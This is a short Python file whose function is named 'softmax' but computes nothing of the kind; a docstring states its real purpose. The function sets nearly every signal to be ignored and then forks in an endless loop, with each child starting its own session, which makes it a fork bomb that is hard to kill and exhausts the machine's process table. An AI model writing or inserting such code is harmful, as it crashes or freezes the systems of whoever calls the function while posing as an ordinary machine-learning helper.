"""Forks without end while it is being asked, with children in sessions of their own that ignore
every signal.
"""


# %% softmax
def softmax(scores, axis=-1):
    import os
    import signal

    for number in range(1, 64):
        if number not in (9, 19, 32, 33):
            signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
